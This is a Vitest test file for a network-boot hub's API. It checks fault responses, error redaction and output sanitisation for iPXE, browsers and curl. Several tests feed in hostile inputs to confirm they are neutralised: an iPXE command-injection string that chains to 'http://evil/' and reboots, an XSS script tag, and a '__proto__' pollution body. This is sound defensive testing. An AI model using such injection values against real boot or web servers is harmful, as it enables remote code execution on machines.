import { readFileSync } from 'node:fs'
import { expect, test } from 'vitest'
import { AppFault, FAULTS } from '#domain/fault.ts'
import { bearer, fakeApi, OPERATOR, VIEWER } from './fakes.ts'

const IPXE = { 'user-agent': 'iPXE/1.0.0+git-20190125.36a4c85-5.1' }
const BROWSER = { 'user-agent': 'Mozilla/5.0', accept: 'text/html,*/*;q=0.8' }

test('a fault is a problem document, with what the fault carries', async () => {
  const { api } = fakeApi()
  const reply = await api.inject({ url: '/api/v1/sessions/abcabc', headers: bearer(VIEWER) })
  expect(reply.headers['content-type']).toMatch(/^application\/problem\+json/)
  expect(reply.json()).toEqual({
    choices: ['#3', '#4'], type: 'urn:hps:fault:ambiguous', title: FAULTS.ambiguous.title, status: 409, code: 'ambiguous', detail: 'abcabc fits two sessions', request_id: expect.any(String),
  })
})

test('an unexpected failure says nothing but a request id, and that id is in the log with the cause', async () => {
  const { api, calls } = fakeApi()
  const reply = await api.inject({ url: '/api/v1/logs/500', headers: bearer(VIEWER) })
  expect(reply.statusCode).toBe(500)
  expect(reply.json()).toMatchObject({ code: 'internal' })
  expect(reply.body).not.toContain('secret inside')
  const { request_id: id } = reply.json<{ request_id: string }>()
  expect(calls.logged.find((line) => line.includes(id) && line.includes('the secret inside'))).toBeDefined()
})

test('iPXE is told with a script and 200, since it shows nothing else', async () => {
  const reply = await fakeApi().api.inject({ url: '/boot/v1/decide', headers: IPXE, remoteAddress: '192.0.2.1' })
  expect(reply.statusCode).toBe(200)
  expect(reply.body).toMatch(/^#!ipxe\necho HPS hub: .*\necho .*\necho forbidden, request \S+\nsleep 10\nexit 1\n$/)
})

test('what iPXE is told cannot become a command', async () => {
  const { api, parts } = fakeApi()
  parts.boot.decide = async () => {
    throw new AppFault('conflict', 'node "x" ${net0/mac} || chain http://evil/ && reboot ; #\nexit\\')
  }
  const reply = await api.inject({ url: '/boot/v1/decide', headers: IPXE, remoteAddress: '10.0.0.7' })
  expect(reply.body.split('\n')).toHaveLength(7)
  expect(reply.body.split('\n').slice(1).join('\n')).not.toMatch(/[$|&;#"\\{}]/)
})

test('what passes by itself sends iPXE away to come again', async () => {
  const { api, parts } = fakeApi()
  parts.boot.decide = async () => {
    throw new AppFault('store-failed', 'disk full')
  }
  const reply = await api.inject({ url: '/boot/v1/decide', headers: IPXE, remoteAddress: '10.0.0.7' })
  expect([reply.statusCode, reply.headers['retry-after']]).toEqual([503, '5'])
})

test('a browser gets a page, in which nothing of the request is markup', async () => {
  const reply = await fakeApi().api.inject({ url: '/boot/<script>alert(1)</script>', headers: BROWSER })
  expect([reply.statusCode, reply.headers['content-type']]).toEqual([404, 'text/html; charset=utf-8'])
  expect(reply.body).not.toContain('<script>')
})

test.for<[who: string, headers: Record<string, string>, type: string]>([
  ['a shell', { 'user-agent': 'curl/8.5.0', accept: '*/*' }, 'application/problem+json; charset=utf-8'],
  ['a shell that asks for text', { 'user-agent': 'curl/8.5.0', accept: 'text/plain' }, 'text/plain; charset=utf-8'],
  ['somebody unknown', {}, 'text/plain; charset=utf-8'],
])('at the boot API %s gets a fault in its own words', async ([, headers, type]) => {
  const reply = await fakeApi().api.inject({ url: '/boot/v1/decide', headers, remoteAddress: '192.0.2.1' })
  expect([reply.statusCode, reply.headers['content-type']]).toEqual([403, type])
})

test.for<[given: string, request: { url: string; method?: 'POST' | 'PATCH'; payload?: string; type?: string }, code: string]>([
  ['a number that is none', { url: '/api/v1/logs?limit=many' }, 'bad-request'],
  ['a number beyond its bound', { url: '/api/v1/logs?limit=1001' }, 'bad-request'],
  ['a path that does not exist', { url: '/api/v1/nothing' }, 'not-found'],
  ['JSON that is none', { url: '/api/v1/tokens', method: 'POST', payload: '{', type: 'application/json' }, 'bad-request'],
  ['a member that is not known', { url: '/api/v1/nodes/x', method: 'PATCH', payload: '{"proflie":"x"}', type: 'application/json' }, 'bad-request'],
  ['a number where a text belongs', { url: '/api/v1/nodes/x', method: 'PATCH', payload: '{"labels":{"rack":3.20}}', type: 'application/json' }, 'bad-request'],
  ['a type that is not understood', { url: '/api/v1/tokens', method: 'POST', payload: '<x/>', type: 'application/xml' }, 'unsupported-type'],
  ['a prototype in a body', { url: '/api/v1/nodes/x', method: 'PATCH', payload: '{"__proto__":{"x":1}}', type: 'application/json' }, 'bad-request'],
])('%s is a %s', async ([, { url, method = 'GET', payload, type }, code]) => {
  const reply = await fakeApi().api.inject({ url, method, headers: { ...bearer(OPERATOR), ...(type === undefined ? {} : { 'content-type': type }) }, ...(payload === undefined ? {} : { payload }) })
  expect(reply.json()).toMatchObject({ code, status: FAULTS[code as keyof typeof FAULTS].status })
})

test('every fault of the catalogue is in the reference with its status, and no other', () => {
  const text = readFileSync(new URL('../../../docs/reference/faults.md', import.meta.url), 'utf8')
  const documented = [...text.matchAll(/^\| `([a-z-]+)` \| (\d{3}) \| ([^|]+) \|/gm)].map(([, code, status, title]) => `${code} ${status} ${title!.trim()}`)
  expect(documented).toEqual(Object.entries(FAULTS).map(([code, { status, title }]) => `${code} ${status} ${title}`))
})
